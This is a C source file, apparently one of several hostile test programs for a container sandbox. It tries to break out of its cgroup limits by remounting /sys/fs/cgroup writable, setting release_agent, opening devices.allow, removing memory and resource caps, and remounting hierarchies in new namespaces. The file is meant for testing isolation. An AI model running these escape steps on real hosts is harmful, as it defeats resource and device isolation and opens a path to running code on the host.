/* outgrow: tries to change the limits of its own cgroups, to make cgroups, and to see others. It
   writes to every file of /sys/fs/cgroup, makes the mounts there writable, and mounts every
   hierarchy again, in its own namespaces and in new ones. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define PLACE SPOILS "/mounted"
#define MADE "/outgrown"

static void write_to(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0) return;
  (void)!write(fd, text, strlen(text));
  close(fd);
}

/* What each file takes, where it is among those that free an app or run a program on the host. */
static void spoil_file(const char *path, const char *name) {
  if (strcmp(name, "release_agent") == 0) return write_to(path, SPOILS "/agent");
  if (strcmp(name, "devices.allow") == 0) return write_to(path, "a");
  if (strcmp(name, "memory.limit_in_bytes") == 0) return write_to(path, "-1");
  if (strstr(name, ".max")) return write_to(path, "max");
  if (strcmp(name, "freezer.state") == 0) return write_to(path, "FROZEN");
  write_to(path, "1");
}

static int spoil(const char *path, const struct stat *file, int kind, struct FTW *walk) {
  (void)kind;
  if (strstr(path, MADE)) return 0;
  if (S_ISDIR(file->st_mode)) {
    char below[4096];
    snprintf(below, sizeof below, "%s" MADE, path);
    mkdir(below, 0777);
  } else if (S_ISREG(file->st_mode)) {
    chmod(path, 0666);
    spoil_file(path, path + walk->base);
  }
  return 0;
}

static int uncover(const char *path, const struct stat *file, int kind, struct FTW *walk) {
  (void)kind, (void)walk;
  if (!S_ISDIR(file->st_mode)) return 0;
  mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
  mount(NULL, path, NULL, MS_REMOUNT, NULL);
  return 0;
}

static void attack(void) {
  nftw("/sys/fs/cgroup", uncover, 64, FTW_PHYS);
  nftw("/sys/fs/cgroup", spoil, 64, FTW_PHYS);
  static const char *const hierarchies[] = {
      "memory", "cpu", "cpuacct", "cpuset", "freezer", "pids", "devices", "blkio", "none,name=systemd",
  };
  mkdir(PLACE, 0777);
  for (size_t i = 0; i < sizeof hierarchies / sizeof *hierarchies; i++) {
    if (mount("cgroup", PLACE, "cgroup", 0, hierarchies[i]) != 0) continue;
    nftw(PLACE, spoil, 64, FTW_PHYS);
    umount2(PLACE, MNT_DETACH);
  }
  if (mount("cgroup2", PLACE, "cgroup2", 0, NULL) == 0) nftw(PLACE, spoil, 64, FTW_PHYS);
  // What is below the view, if anything is.
  umount2("/sys/fs/cgroup", MNT_DETACH);
  nftw("/sys/fs/cgroup", spoil, 64, FTW_PHYS);
}

int outgrow(int argc, char **argv) {
  (void)argc, (void)argv;
  static const int spaces[] = {0, CLONE_NEWCGROUP, CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS,
                               CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP};
  for (size_t i = 0; i < sizeof spaces / sizeof *spaces; i++) {
    pid_t child = fork();
    if (child == 0) {
      if (unshare(spaces[i]) == 0) attack();
      _exit(0);
    }
    waitpid(child, NULL, 0);
  }
  puts("tried");
  fflush(stdout);
  pause();
  return 0;
}
